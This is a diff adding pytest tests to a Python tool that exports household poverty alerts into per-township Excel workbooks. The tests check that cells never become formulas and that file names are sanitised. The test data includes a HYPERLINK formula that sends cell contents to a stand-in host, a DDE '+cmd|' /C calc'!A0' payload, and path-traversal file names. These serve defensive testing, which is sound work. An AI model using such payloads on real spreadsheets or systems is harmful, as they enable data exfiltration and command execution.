@@ -47,3 +47,117 @@ def test_pii_only_when_given(tmp_path):
     header = [c.value for c in ws[1]]
     assert "户主姓名" in header and "联系电话" in header
     assert ws.cell(row=2, column=header.index("户主姓名") + 1).value == "张三"
+
+
+# -- the writer: strings, names, control characters, many villages -------------
+import warnings  # noqa: E402
+
+import pytest  # noqa: E402
+
+from fanpin.exceptions import DataRepairWarning, FanpinWarning  # noqa: E402
+from fanpin.workflow import (  # noqa: E402
+    workbook_name,
+    write_township_workbook,
+)
+from fanpin.workflow._export import MAX_VILLAGE_SHEETS  # noqa: E402
+
+FORMULA_VILLAGE = '=HYPERLINK("http://x.example/?"&A1,"点击查看")'
+
+
+def _cells(path):
+    wb = load_workbook(path)
+    return [
+        (ws.title, c) for ws in wb.worksheets for row in ws.iter_rows() for c in row
+    ]
+
+
+def test_no_cell_is_a_formula_and_numbers_stay_numbers(tmp_path):
+    a = _alerts()
+    a.loc[0, "village"] = FORMULA_VILLAGE
+    a.loc[1, "reasons"] = "+cmd|' /C calc'!A0"
+    a.loc[2, "reasons"] = "-2+3"
+    pii = pd.DataFrame({"household_id": ["01", "02"], "head_name": ["@SUM(1)", "张三"],
+                        "phone": ["13800000000", None]})  # fmt: skip
+    write_workbooks(a, tmp_path, pii=pii)
+    cells = _cells(tmp_path / "乙镇.xlsx")
+    assert cells and all(c.data_type != "f" for _, c in cells)
+    values = [c.value for _, c in cells]
+    assert FORMULA_VILLAGE in values and "+cmd|' /C calc'!A0" in values
+    for _, c in cells:
+        if isinstance(c.value, str):
+            assert c.data_type == "s"
+        if c.value in (FORMULA_VILLAGE, "-2+3", "@SUM(1)"):
+            assert c.quotePrefix  # stays text when a cadre edits it
+    col = next(c.column for _, c in cells if c.value == "风险概率")
+    scores = [c.value for _, c in cells if c.column == col and c.row > 1]
+    assert scores and all(isinstance(v, float) for v in scores)  # 风险概率
+
+
+def test_control_characters_cleaned_with_a_warning_naming_the_column(tmp_path):
+    a = _alerts()
+    a.loc[3, "village"] = "三村\x1b"
+    pii = pd.DataFrame({"household_id": ["01"], "head_name": ["王秘密\x0b"]})
+    with pytest.warns(DataRepairWarning) as rec:
+        write_workbooks(a, tmp_path, pii=pii)
+    text = " ".join(str(w.message) for w in rec)
+    assert "'户主姓名'" in text and "'村'" in text and "王秘密" not in text
+    values = [c.value for _, c in _cells(tmp_path / "乙镇.xlsx")]
+    assert "王秘密" in values
+    assert load_workbook(tmp_path / "丁镇.xlsx").sheetnames == ["三村"]
+
+
+@pytest.mark.parametrize(
+    ("town", "name"),
+    [("..", "未填乡镇.xlsx"), ("CON", "CON_.xlsx"), ("nul.txt", "nul.txt_.xlsx"),
+     (".hidden", "hidden.xlsx"), ("a/b\\c:d", "a_b_c_d.xlsx"), ("  镇 . ", "镇.xlsx")],
+)  # fmt: skip
+def test_safe_visible_workbook_names(tmp_path, town, name):
+    a = _alerts().assign(township=town)
+    paths = write_workbooks(a, tmp_path)
+    assert [p.name for p in paths] == [name]
+    assert paths[0].parent == tmp_path and paths[0].is_file()
+
+
+def test_long_and_colliding_township_names(tmp_path):
+    long = "很长的乡镇名" * 20  # 360 bytes in UTF-8
+    a = _alerts()
+    a["township"] = [long, long + "乙", "a/b", "a_b"]
+    paths = write_workbooks(a, tmp_path)
+    names = [p.name for p in paths]
+    assert len({n.casefold() for n in names}) == 4  # nothing overwritten
+    assert all(len(n.encode()) <= 200 for n in names)
+    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(names)
+    assert workbook_name("a_b", {"a_b"}) == "a_b_2.xlsx"
+
+
+def test_many_villages_go_on_one_sheet(tmp_path):
+    n = MAX_VILLAGE_SHEETS + 5
+    rows = pd.DataFrame({"household_id": [f"{i:04d}" for i in range(n)],
+                         "village": [f"{i:04d}村" for i in range(n)][::-1],
+                         "rank": range(1, n + 1)})  # fmt: skip
+    with pytest.warns(FanpinWarning, match="one sheet"):
+        p = write_township_workbook(rows, tmp_path / "镇.xlsx")
+    wb = load_workbook(p)
+    assert wb.sheetnames == ["全部村"]
+    ws = wb["全部村"]
+    assert ws.max_row == n + 1
+    villages = [ws.cell(row=r, column=3).value for r in range(2, n + 2)]
+    assert villages == sorted(villages)
+
+
+def test_print_setup_and_same_bytes(tmp_path):
+    for d in ("a", "b"):
+        write_workbooks(_alerts().assign(discovered="2025-01-20"), tmp_path / d)
+    assert (tmp_path / "a" / "乙镇.xlsx").read_bytes() == (
+        tmp_path / "b" / "乙镇.xlsx"
+    ).read_bytes()
+    ws = load_workbook(tmp_path / "a" / "乙镇.xlsx")["一村"]
+    assert ws.page_setup.orientation == "landscape"
+    assert str(ws.page_setup.paperSize) == "9"  # A4
+    assert ws.page_setup.fitToWidth in (1, None) and ws.page_setup.fitToHeight == 0
+    assert ws.sheet_properties.pageSetUpPr.fitToPage
+    assert ws.print_title_rows == "$1:$1"
+    assert all(c.font.b for c in ws[1])
+    with warnings.catch_warnings():
+        warnings.simplefilter("error")
+        write_workbooks(_alerts(), tmp_path / "c")  # clean input: no warning
